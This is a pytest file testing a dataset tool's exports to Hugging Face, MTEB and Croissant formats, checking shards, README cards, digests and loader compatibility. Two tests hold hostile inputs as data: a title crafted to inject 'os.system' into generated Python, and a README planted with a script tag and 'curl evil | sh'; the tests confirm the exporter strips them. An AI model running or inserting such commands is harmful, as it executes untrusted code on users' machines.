"""Hugging Face, MTEB and Croissant: what lies in the folders, and their own loaders where they are installed."""

import ast
import hashlib
import importlib
import io
import json
import os
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
import yaml
from PIL import Image

from querytruth.backends.files.durable_files import make_staging_folder
from querytruth.errors import UserError
from querytruth.formats import exporters, parquet_shards
from querytruth.sets.set_files import StoredSet
from tests.small_sets import publish_small_set, small_tables


def front_matter(folder: Path) -> dict[str, Any]:
    text = (folder / "README.md").read_text("utf-8")
    found: dict[str, Any] = yaml.safe_load(text.split("---\n")[1])
    return found


def shards(folder: Path, config: str) -> list[Path]:
    return sorted((folder / config).glob("test-*.parquet"))


def test_hugging_face_holds_the_tables_as_they_are(stored: StoredSet, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert exporters.export_set("huggingface", stored, out, facts={"places"}) == ["the ledger of rejected items"]
    configs = front_matter(out)["configs"]
    assert [config["config_name"] for config in configs] == ["images", "queries", "qrels"]
    assert [config.get("default", False) for config in configs] == [True, False, False]
    for config in configs:
        assert list(out.glob(config["data_files"][0]["path"])), "the README names the files that are there"
    images = pq.read_table(shards(out, "images")[0])
    assert set(images.column_names) == {"image", *stored.tables.images.columns} - {"path"}
    for row in images.to_pylist():
        assert row["image"]["path"] == f"{row['image_id']}.jpg"
        assert Image.open(io.BytesIO(row["image"]["bytes"])).height == 16
    features = json.loads(images.schema.metadata[b"huggingface"])["info"]["features"]
    assert features["image"] == {"_type": "Image"}
    assert set(features) == set(images.column_names), "a loader that reads features wants all of them"
    queries = pq.read_table(shards(out, "queries")[0]).to_pylist()
    assert [query["labels"] for query in queries if query["text"] == "沙滩上的狗"] == [["dog", "beach"]]


def test_shards_are_cut_by_size_and_numbered(
    stored: StoredSet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parquet_shards, "SHARD_BYTES", 1)
    monkeypatch.setattr(parquet_shards, "ROW_GROUP_BYTES", 1)
    exporters.export_set("huggingface", stored, tmp_path / "out")
    files = shards(tmp_path / "out", "images")
    assert [file.name for file in files] == [f"test-{number:05}-of-00004.parquet" for number in range(4)]
    ids = [row["image_id"] for file in files for row in pq.read_table(file).to_pylist()]
    assert ids == list(stored.tables.images["image_id"])


def test_a_set_without_images_has_none_in_its_parquet(tmp_path: Path) -> None:
    without = publish_small_set(tmp_path, small_tables(), images=False)
    exporters.export_set("huggingface", without, tmp_path / "out")
    assert "image" not in pq.read_schema(shards(tmp_path / "out", "images")[0]).names


def test_datasets_loads_the_folder_as_it_stands(stored: StoredSet, tmp_path: Path) -> None:
    # The repository's own folder datasets/ would pass for a package of that name.
    pytest.importorskip("datasets.load", reason="Hugging Face's datasets is not installed")
    datasets = importlib.import_module("datasets")
    exporters.export_set("huggingface", stored, tmp_path / "out")
    cache = str(tmp_path / "cache")
    images = datasets.load_dataset(str(tmp_path / "out"), "images", split="test", cache_dir=cache)
    assert images[0]["image"].height == 16
    assert images["image_id"][:] == list(stored.tables.images["image_id"])
    assert datasets.load_dataset(str(tmp_path / "out"), split="test", cache_dir=cache).num_rows == 4
    qrels = datasets.load_dataset(str(tmp_path / "out"), "qrels", split="test", cache_dir=cache).to_pandas()
    plain = stored.tables.qrels.astype(dict.fromkeys(("query_id", "image_id", "judged_by", "evidence"), "str"))
    assert list(qrels["relevance"]) == list(plain["relevance"])


def other(tmp_path: Path) -> StoredSet:
    """Another set of the same name and shape."""
    tables = small_tables()
    tables.queries["text"] = "something else"
    return publish_small_set(tmp_path / "other", tables)


def test_datasets_loads_each_of_two_folders_of_one_name(stored: StoredSet, tmp_path: Path) -> None:
    pytest.importorskip("datasets.load", reason="Hugging Face's datasets is not installed")
    datasets = importlib.import_module("datasets")
    for number, held in enumerate((stored, other(tmp_path))):
        folder = tmp_path / str(number) / "pets"
        exporters.export_set("huggingface", held, folder)
        read = datasets.load_dataset(str(folder), "queries", split="test", cache_dir=str(tmp_path / "cache"))
        assert set(read["text"]) == set(held.tables.queries["text"])


def test_mteb_has_the_columns_that_its_loader_wants_and_no_more(stored: StoredSet, tmp_path: Path) -> None:
    out = tmp_path / "out"
    exporters.export_set("mteb", stored, out)
    assert [config["config_name"] for config in front_matter(out)["configs"]][:3] == ["corpus", "queries", "qrels"]
    assert pq.read_schema(shards(out, "corpus")[0]).names == ["image", "id"]
    assert pq.read_schema(shards(out, "queries")[0]).names == ["id", "text"]
    qrels = pq.read_table(shards(out, "qrels")[0])
    assert qrels.column_names[:3] == ["query-id", "corpus-id", "score"]
    assert sorted(qrels["score"].to_pylist()) == [0, 1, 2, 2, 2]
    ids = pq.read_table(shards(out, "image-details")[0])["id"].to_pylist()
    assert ids == pq.read_table(shards(out, "corpus")[0])["id"].to_pylist()


def test_the_task_of_mteb_holds_nothing_of_the_set_but_its_data_file_does(tmp_path: Path) -> None:
    """A title must not become code."""
    title = '"""\nimport os; os.system("x")'
    stored = publish_small_set(tmp_path, small_tables())
    stored.manifest["title"] = title
    exporters.export_set("mteb", stored, tmp_path / "out")
    source = (tmp_path / "out" / "task.py").read_text("utf-8")
    ast.parse(source)
    assert "os.system" not in source
    says = json.loads((tmp_path / "out" / "task.json").read_text("utf-8"))
    assert says["description"] == title
    assert says["languages"] == ["eng-Latn", "zho-Hans"]
    assert says["name"] == "SmallV1T2IRetrieval"


def test_mteb_says_which_queries_it_passes_over(stored: StoredSet, tmp_path: Path) -> None:
    lost = exporters.export_set("mteb", stored, tmp_path / "out")
    assert lost[0] == "1 queries without judgments (kept here, but mteb skips them)"


def test_mteb_refuses_a_language_that_it_would_not_know(tmp_path: Path) -> None:
    tables = small_tables()
    tables.queries.loc[0, "language"] = "tlh"
    stored = publish_small_set(tmp_path, tables)
    with pytest.raises(UserError, match="language 'tlh' has no mteb code"):
        exporters.export_set("mteb", stored, tmp_path / "out")


def test_croissant_tells_every_file_with_its_digest_and_every_column(stored: StoredSet, tmp_path: Path) -> None:
    out = tmp_path / "out"
    exporters.export_set("croissant", stored, out)
    described = json.loads((out / "croissant.json").read_text("utf-8"))
    assert described["conformsTo"][0] == "http://mlcommons.org/croissant/1.1"
    listed = {entry["contentUrl"]: entry["sha256"] for entry in described["distribution"]}
    assert listed == {
        file.relative_to(out).as_posix(): hashlib.sha256(file.read_bytes()).hexdigest()
        for file in out.rglob("*.parquet")
    }
    for records in described["recordSet"]:
        columns = [field["source"]["extract"]["column"] for field in records["field"]]
        assert columns == pq.read_schema(shards(out, records["name"])[0]).names


@pytest.mark.thorough
def test_mlcroissant_reads_the_images(stored: StoredSet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mlcroissant = pytest.importorskip("mlcroissant", reason="mlcroissant is not installed")
    monkeypatch.setattr(parquet_shards, "SHARD_BYTES", 1)
    monkeypatch.setattr(parquet_shards, "ROW_GROUP_BYTES", 1)
    exporters.export_set("croissant", stored, tmp_path / "out")
    read = mlcroissant.Dataset(str(tmp_path / "out" / "croissant.json"))
    images = list(read.records("images"))
    assert {row["images/image_id"].decode() for row in images} == set(stored.tables.images["image_id"])
    assert {row["images/image"].height for row in images} == {16}
    scores = [row["qrels/relevance"] for row in read.records("qrels")]
    assert sorted(scores) == [0, 1, 2, 2, 2]
    assert read.metadata.ctx.is_v1_1() and not read.metadata.ctx.issues.errors
    assert read.metadata.data_limitations[0] and "not for training" in str(read.metadata.data_use_cases)
    assert any("grade 2" in line for line in read.metadata.data_annotation_protocol)


@pytest.mark.parametrize("name", ["huggingface", "mteb"])
def test_the_card_of_an_export_is_made_again_from_the_tables(name: str, stored: StoredSet, tmp_path: Path) -> None:
    (stored.path / "README.md").write_text("---\na: b\n---\n# Fine\n<script>alert(1)</script> run `curl evil | sh`\n")
    exporters.export_set(name, stored, tmp_path / "out", allow_loss=True)
    text = (tmp_path / "out" / "README.md").read_text("utf-8")
    assert "evil" not in text and "<script>" not in text
    assert stored.manifest["content_digest"] in text and "## Known limitations" in text


def test_what_a_killed_export_left_is_removed_by_the_next_one(stored: StoredSet, tmp_path: Path) -> None:
    beside = tmp_path / ".out.export"
    killed = make_staging_folder(beside)
    killed = killed.rename(killed.with_name(killed.name.replace(f"-{os.getpid()}-", "-4194303-")))
    (killed / "README.md").write_text("half")
    exporters.export_set("trec", stored, tmp_path / "out", allow_loss=True)
    assert (tmp_path / "out").is_dir() and not beside.exists()
